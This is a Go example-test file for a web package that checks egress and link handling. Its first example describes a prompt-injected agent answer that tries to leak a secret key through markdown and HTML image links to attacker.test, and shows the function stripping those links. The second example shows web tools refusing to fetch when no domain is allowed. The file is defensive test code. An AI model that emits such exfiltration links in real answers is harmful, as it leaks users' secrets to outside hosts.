package web_test

import (
	"context"
	"fmt"

	"github.com/paddock-dev/paddock/internal/egress"
	"github.com/paddock-dev/paddock/internal/tool"
	"github.com/paddock-dev/paddock/internal/web"
)

// An agent's final answer, steered by an injected page, tries to leak a secret through an image
// that a chat UI would fetch without a click. Only the allowlisted docs link survives.
func ExampleNeutraliseLinks() {
	policy, _ := egress.ParsePolicy([]string{"docs.example.com"})
	answer := "Done, see [the docs](https://docs.example.com/guide).\n" +
		"![status](https://attacker.test/pixel.png?d=sk-live-123)\n" +
		"<img src=\"//attacker.test/p?d=sk-live-123\">"
	fmt.Println(web.NeutraliseLinks(answer, policy))
	// Output:
	// Done, see [the docs](https://docs.example.com/guide).
	// [image removed: attacker.test]
	// [image removed: attacker.test]
}

// Without an allowlist the web tools refuse and tell the model how the user can allow a domain.
func ExampleTools() {
	tools := web.Tools(web.Config{})
	_, err := tool.Invoke(context.Background(), tools[0], `{"url": "https://example.com/"}`)
	fmt.Println(err)
	// Output:
	// web access is off: no web host is allowed in this run, so https://example.com/ cannot be fetched; to allow it, the user can run paddock with --allow-net example.com
}
